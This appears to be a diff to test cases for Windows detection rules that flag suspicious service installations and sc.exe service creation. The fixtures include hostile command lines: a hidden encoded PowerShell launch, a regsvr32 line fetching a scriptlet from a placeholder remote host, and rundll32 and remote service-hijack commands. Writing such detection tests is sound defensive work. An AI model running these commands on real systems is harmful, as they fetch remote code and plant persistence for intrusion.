@@ -48,6 +48,20 @@ def member_added(group_sid: str, group: str, member: str = "-") -> dict[str, Any
                     TargetDomainName="Builtin", TargetSid=group_sid, PrivilegeList="-")
 
 
+def service7045(name: str, image_path: str) -> dict[str, Any]:
+    return {"provider": "Service Control Manager", "channel": "System", "id": 7045,
+            "data": {"ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
+                     "StartType": "auto start", "AccountName": "LocalSystem"}}
+
+
+def service4697(name: str, file_name: str) -> dict[str, Any]:
+    return security(4697, ServiceName=name, ServiceFileName=file_name, ServiceType="0x10", ServiceStartType="2",
+                    ServiceAccount="LocalSystem")
+
+
+SC = "C:\\Windows\\System32\\sc.exe"
+EXCHANGE_BIN = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"
+DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\"
 ETS = "CN=Exchange Trusted Subsystem,OU=Microsoft Exchange Security Groups,DC=corp,DC=example"
 # (event, the rule that must report it and its severity; None: nothing may)
 CASES: list[tuple[dict[str, Any], tuple[str, str] | None]] = [
@@ -64,6 +78,25 @@ CASES: list[tuple[dict[str, Any], tuple[str, str] | None]] = [
     (security4688("C:\\ProgramData\\svchosts.exe -c C:\\ProgramData\\frpc.toml", "C:\\ProgramData\\svchosts.exe"),
      ("exhunt_tunnel_tool", "high")),
     (sysmon1("C:\\Users\\Public\\ngrok.exe tcp 3389", "C:\\Users\\Public\\ngrok.exe"), ("exhunt_tunnel_tool", "high")),
+    (service7045("WinUpd", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand JABzAD0A"),
+     ("exhunt_service_install_suspicious", "high")),
+    (service7045("sct", "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll"),
+     ("exhunt_service_install_suspicious", "high")),
+    (service7045("PerfSvc", "C:\\PerfLogs\\svc.exe"), ("exhunt_service_install_suspicious", "high")),
+    (service4697("BTOBTO", "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"),
+     ("exhunt_service_install_suspicious_4697", "high")),
+    (service4697("upd", "C:\\ProgramData\\svchost.exe"), ("exhunt_service_install_suspicious_4697", "high")),
+    (service4697("dll", "rundll32.exe C:\\Windows\\Temp\\a.dll,Start"),
+     ("exhunt_service_install_suspicious_4697", "high")),
+    (sysmon1('sc create WinUpd binPath= "cmd.exe /c C:\\ProgramData\\x.bat" start= auto', SC),
+     ("exhunt_sc_create_suspicious", "high")),
+    (security4688('sc.exe \\\\EXCH02 config Spooler binpath= "C:\\Windows\\Temp\\s.exe"', SC),
+     ("exhunt_sc_create_suspicious", "high")),
+    (service7045("MSExchangeHM", f'"{EXCHANGE_BIN}MSExchangeHMHost.exe"'), None),
+    (service7045("WinDefend", f'"{DEFENDER}MsMpEng.exe"'), None),
+    (service4697("MSExchangeTransport", f'"{EXCHANGE_BIN}MSExchangeTransport.exe"'), None),
+    (service4697("WinDefend", f'"{DEFENDER}MsMpEng.exe"'), None),
+    (sysmon1('sc create BackupAgent binPath= "C:\\Program Files\\Backup Agent\\agent.exe"', SC), None),
     (sysmon1("net localgroup administrators", NET), None),
     (sysmon1("ssh admin@backup01", "C:\\Windows\\System32\\OpenSSH\\ssh.exe"), None),
     (member_added("S-1-5-32-544", "Administrators", ETS), None),
